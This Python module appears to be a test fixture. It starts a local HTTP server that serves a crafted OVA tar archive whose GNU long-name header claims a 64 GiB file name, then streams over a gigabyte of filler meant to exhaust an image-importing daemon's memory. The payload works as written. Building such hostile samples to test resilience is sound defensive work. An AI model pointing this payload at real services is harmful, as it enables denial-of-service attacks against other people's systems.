"""A server of an image whose archive claims a file name of 64 GiB."""
import contextlib
import socket
import threading

OVF = (b'<?xml version="1.0"?><Envelope><References><File id="f" href="d.vmdk"/></References>'
       b'<DiskSection><Disk fileRef="f"/></DiskSection></Envelope>')
NAME_LENGTH = 64 << 30
# How much of the name is sent at the most, in bytes: more than the daemon's memory.
SENT = 1200 << 20


def header(name, size, kind):
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:124] = b"0000644\0" + b"0000000\0" * 2
    # A size beyond eight octal digits is in GNU's binary form.
    block[124:136] = b"\x80" + size.to_bytes(11, "big") if size >> 33 else b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[156:157] = kind
    block[257:265] = b"ustar  \0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


class HostileImages:
    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/evil.ova"
        self.asked = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                stream, _ = self.listener.accept()
                self.asked += 1
                threading.Thread(target=self.answer, args=(stream,), daemon=True).start()

    def answer(self, stream):
        archive = header(b"a.ovf", len(OVF), b"0") + OVF + b"\0" * (-len(OVF) % 512)
        archive += header(b"././@LongLink", NAME_LENGTH, b"L")
        length = len(archive) + NAME_LENGTH
        block = b"A" * (1 << 20)
        with contextlib.suppress(OSError), stream:
            stream.recv(65536)
            stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nETag: \"x\"\r\n"
                           b"Content-Length: %d\r\n\r\n" % length + archive)
            for _ in range(SENT // len(block)):
                stream.sendall(block)

    def close(self):
        self.listener.close()
